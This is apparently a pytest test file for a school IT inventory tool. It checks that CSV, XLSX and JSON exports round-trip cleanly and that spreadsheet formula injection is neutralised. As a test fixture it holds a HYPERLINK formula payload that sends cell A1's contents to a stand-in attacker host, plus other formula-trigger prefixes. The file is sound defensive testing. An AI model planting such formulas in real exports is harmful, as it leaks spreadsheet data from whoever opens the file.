"""Export on both backends: the import format, formula neutralisation, exact round trips."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import openpyxl
import pytest

from kape_itops.domain.enums import DeviceKind
from kape_itops.domain.fields import DEVICE_COLUMNS, SCHOOL_COLUMNS
from kape_itops.domain.inventory import ChangeContext, DeviceUpsert
from kape_itops.errors import UsageError
from kape_itops.inventory.exporter import ExportFormat, export_inventory
from kape_itops.inventory.service import Inventory
from kape_itops.store.db import Store
from kape_itops.store.inventory_repo import InventoryRepo
from tests.functional.test_import import run, seed_folder, snapshot

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ODD_NOTES = {
    "D3": EVIL,
    "D4": "+855 12 345 678",
    "D5": "@SUM(1)",
    "D6": "'=already quoted",
    "D7": "-not a number",
    "D8": "-5",
    "D9": "'plain quote",
    "D10": 'line one\nline two, with "quotes"',
}


def populated(store: Store, tmp_path: Path) -> None:
    """The seed plus devices whose notes a spreadsheet would run or mangle."""
    run(store, seed_folder(tmp_path / "seed"))
    ctx = ChangeContext("t", "test", dt.datetime.now(dt.UTC))
    with store.session() as s:
        InventoryRepo(s).apply_devices(
            [
                DeviceUpsert(t, {"school": "KPT-PSP", "kind": DeviceKind.OTHER, "notes": n})
                for t, n in ODD_NOTES.items()
            ],
            ctx,
        )


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_export_then_import_changes_nothing(
    store: Store, tmp_path: Path, fmt: ExportFormat
) -> None:
    populated(store, tmp_path)
    target = tmp_path / ("out" if fmt == ExportFormat.CSV else f"out.{fmt.value}")
    report = export_inventory(store, target, fmt)
    assert (report.schools, report.devices) == (2, 2 + len(ODD_NOTES))
    before = snapshot(store)
    again = run(store, target)
    assert again.changes == 0 and again.errors == 0
    assert snapshot(store) == before


def test_csv_export_is_the_import_format_and_neutralised(store: Store, tmp_path: Path) -> None:
    populated(store, tmp_path)
    export_inventory(store, tmp_path / "out", ExportFormat.CSV)
    raw = (tmp_path / "out" / "devices.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with (tmp_path / "out" / "devices.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert tuple(rows[0]) == DEVICE_COLUMNS
    notes = {r[0]: r[DEVICE_COLUMNS.index("notes")] for r in rows[1:]}
    assert notes["D3"] == "'" + EVIL
    assert notes["D4"] == "'+855 12 345 678" and notes["D5"] == "'@SUM(1)"
    assert notes["D6"] == "''=already quoted" and notes["D8"] == "-5"
    assert notes["D9"] == "'plain quote"
    for r in rows[1:]:
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in r)
    with (tmp_path / "out" / "schools.csv").open(encoding="utf-8-sig", newline="") as fh:
        school_rows = list(csv.reader(fh))
    assert tuple(school_rows[0]) == SCHOOL_COLUMNS
    assert school_rows[2][2] == "សាលាបឋមសិក្សាព្រៃស្ពឺ"


def test_xlsx_export_has_two_sheets_and_no_formulas(store: Store, tmp_path: Path) -> None:
    populated(store, tmp_path)
    path = tmp_path / "inventory.xlsx"
    export_inventory(store, path, ExportFormat.XLSX)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["schools", "devices"]
    ws = wb["devices"]
    header = [c.value for c in ws[1]]
    assert tuple(header) == DEVICE_COLUMNS
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
    notes = {
        r[0]: r[DEVICE_COLUMNS.index("notes")] for r in ws.iter_rows(min_row=2, values_only=True)
    }
    assert notes["D3"] == "'" + EVIL
    wb.close()


def test_json_export_shape(store: Store, tmp_path: Path) -> None:
    populated(store, tmp_path)
    path = tmp_path / "inventory.json"
    export_inventory(store, path, ExportFormat.JSON)
    data = json.loads(path.read_text("utf-8"))
    assert data["format"] == "kape-itops-inventory"
    assert [s["code"] for s in data["schools"]] == ["KPT-PSH", "KPT-PSP"]
    d3 = next(d for d in data["devices"] if d["asset_tag"] == "D3")
    assert d3["notes"] == EVIL  # JSON is not a spreadsheet: no neutralisation


def test_edit_in_spreadsheet_then_import_changes_only_the_edit(
    store: Store, tmp_path: Path
) -> None:
    populated(store, tmp_path)
    path = tmp_path / "inventory.xlsx"
    export_inventory(store, path, ExportFormat.XLSX)
    wb = openpyxl.load_workbook(path)
    ws = wb["devices"]
    col = {c.value: i for i, c in enumerate(ws[1])}
    for row in ws.iter_rows(min_row=2):
        if row[col["asset_tag"]].value == "D1":
            row[col["room"]].value = "Library"
            row[col["unit_price"]].value = 700  # a spreadsheet turns text into numbers
            row[col["purchase_date"]].value = dt.datetime(2024, 1, 15)
    wb.save(path)
    report = run(store, path)
    with store.session() as s:
        changes = [
            c for c in InventoryRepo(s).history() if c.source.startswith("import: inventory.xlsx")
        ]
    assert {(c.key, c.field, c.old, c.new) for c in changes} >= {
        ("D1", "unit_price", "720.00", "700.00"),
        ("D1", "room", None, "Library"),
    }
    assert all(c.key in ("D1", "KPT-PSP/Library") for c in changes)
    assert report.files[1].stats.updated == 1


def test_export_filters_and_usage_errors(store: Store, tmp_path: Path) -> None:
    populated(store, tmp_path)
    (tmp_path / "file.txt").write_text("x")
    with pytest.raises(UsageError, match="is a file"):
        export_inventory(store, tmp_path / "file.txt", ExportFormat.CSV)
    with pytest.raises(UsageError, match="is a folder"):
        export_inventory(store, tmp_path, ExportFormat.JSON)
    Inventory(store, "t").set("D1", {"status": "retired"})
    from kape_itops.domain.enums import DeviceStatus
    from kape_itops.domain.inventory import DeviceFilter

    rep = export_inventory(
        store, tmp_path / "r", ExportFormat.CSV, DeviceFilter(statuses=(DeviceStatus.RETIRED,))
    )
    assert rep.devices == 1
